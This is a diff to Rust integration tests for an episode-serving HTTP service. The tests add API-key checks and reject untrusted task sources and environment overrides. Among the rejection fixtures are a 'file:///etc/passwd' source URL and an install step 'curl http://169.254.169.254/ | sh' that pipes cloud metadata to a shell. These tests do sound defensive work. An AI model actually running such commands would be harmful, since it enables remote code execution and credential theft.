@@ -64,7 +64,19 @@ fn episodes_over_http_graded_shaped_and_kept() {
     }
     let dir = scratch("env-serve");
     let out = dir.path().join("episodes");
-    let mut s = start(&out, &["--max-episodes", "1", "--queue", "0"]);
+    let mut s = start(
+        &out,
+        &[
+            "--max-episodes",
+            "1",
+            "--queue",
+            "0",
+            "--tasks",
+            BUNDLED,
+            "--allow-source",
+            "https://files.pythonhosted.org/",
+        ],
+    );
     let gold = json!({"kind": "gold-replay", "run_tests": false});
 
     // A whole episode.
@@ -111,7 +123,8 @@ fn episodes_over_http_graded_shaped_and_kept() {
     );
     assert_eq!(cut0["reward"].as_f64(), Some(0.0), "{cut0}");
 
-    // An environment that cannot be built: infrastructure, masked.
+    // An environment that cannot be built: infrastructure, masked. (Its row is not in
+    // --tasks; its sdist source is under the --allow-source prefix.)
     let mut broken = task_row(TASK);
     broken["instance_id"] = json!("nobody__nothing-1");
     broken["repo"] = json!("nobody/nothing");
@@ -132,8 +145,29 @@ fn episodes_over_http_graded_shaped_and_kept() {
     assert_eq!(code, 200);
     assert_eq!(again, full, "a retried id ran again");
 
-    // Bad requests: 400 naming the field; the service keeps serving.
+    // Bad requests: 400 naming the field; the service keeps serving. A row not in --tasks
+    // names no source outside --allow-source (here a host file) and no env overrides (they
+    // run in the environment build, with the host's network).
+    let mut host_file = broken.clone();
+    host_file["source"]["url"] = json!("file:///etc/passwd");
+    let mut other_host = broken.clone();
+    other_host["source"]["url"] =
+        json!("https://files.pythonhosted.org.example.com/packages/x.tar.gz");
+    let mut own_env = broken.clone();
+    own_env["env"] = json!({"install": ["curl http://169.254.169.254/ | sh"]});
     for (body, field) in [
+        (
+            json!({"episode_id": "s1", "task": host_file, "policy": gold}),
+            "task.source.url",
+        ),
+        (
+            json!({"episode_id": "s2", "task": other_host, "policy": gold}),
+            "task.source.url",
+        ),
+        (
+            json!({"episode_id": "s3", "task": own_env, "policy": gold}),
+            "task.env",
+        ),
         (
             json!({"episode_id": "b1", "task": {"repo": "x"}, "policy": gold}),
             "task",
@@ -208,7 +242,7 @@ fn episodes_over_http_graded_shaped_and_kept() {
     // kill -9, restart on the same directory: nothing finished is lost.
     s.child.kill().unwrap();
     let _ = s.child.wait();
-    let mut s = start(&out, &[]);
+    let mut s = start(&out, &["--tasks", BUNDLED]);
     for id in ["full", "cut", "cut0", "infra", "slow"] {
         let (code, text) = http(&s.addr, "GET", &format!("/v1/episodes/{id}"), "");
         assert_eq!(code, 200, "{id}: {text}");
@@ -515,4 +549,69 @@ fn step_wise_envs_graded_and_leased() {
     wait_until("the live env's sandbox is removed at shutdown", || {
         !sandbox.exists()
     });
+}
+
+/// `--api-key` (or DOJO_API_KEY): every route but /health answers 401 without the key or with
+/// another; with it the service answers. Without a key, a listener beyond loopback is refused
+/// before serving, and a bad `--allow-source` or a short key stops the start with the flag.
+#[test]
+fn api_key_and_exposure() {
+    let dir = scratch("env-key");
+    let out = dir.path().join("episodes");
+    let key = "env-key-0123456789abcdef";
+    let mut s = start(&out, &["--api-key", key]);
+    for auth in [None, Some("Bearer not-the-key-0123456789")] {
+        let (code, text) = common::http_with(
+            &s.addr,
+            "POST",
+            "/v1/episodes",
+            "{}",
+            auth.map(|a| ("Authorization", a)).as_slice(),
+        );
+        assert_eq!(code, 401, "{text}");
+        assert_eq!(json_of(&text)["error"]["code"], "invalid_api_key");
+    }
+    let (code, _) = http(&s.addr, "GET", "/metrics", "");
+    assert_eq!(code, 401);
+    let bearer = format!("Bearer {key}");
+    let (code, text) = common::http_with(
+        &s.addr,
+        "POST",
+        "/v1/episodes",
+        "{}",
+        &[("Authorization", &bearer)],
+    );
+    assert_eq!(
+        code, 400,
+        "the key admits the request to its checks: {text}"
+    );
+    let (code, _) = common::http_with(
+        &s.addr,
+        "GET",
+        "/metrics",
+        "",
+        &[("Authorization", &bearer)],
+    );
+    assert_eq!(code, 200);
+    assert!(s.terminate().success());
+
+    let dojo = env!("CARGO_BIN_EXE_dojo");
+    let o = out.to_str().unwrap();
+    for (args, says) in [
+        (vec!["--host", "0.0.0.0"], "refusing to serve 0.0.0.0:"),
+        (vec!["--api-key", "short"], "--api-key"),
+        (
+            vec!["--allow-source", "https://files.pythonhosted.org"],
+            "--allow-source",
+        ),
+    ] {
+        let r = std::process::Command::new(dojo)
+            .args(["env", "serve", "--port", "0", "--out", o])
+            .args(&args)
+            .env_remove("DOJO_API_KEY")
+            .output()
+            .unwrap();
+        let err = String::from_utf8_lossy(&r.stderr);
+        assert!(!r.status.success() && err.contains(says), "{args:?}: {err}");
+    }
 }
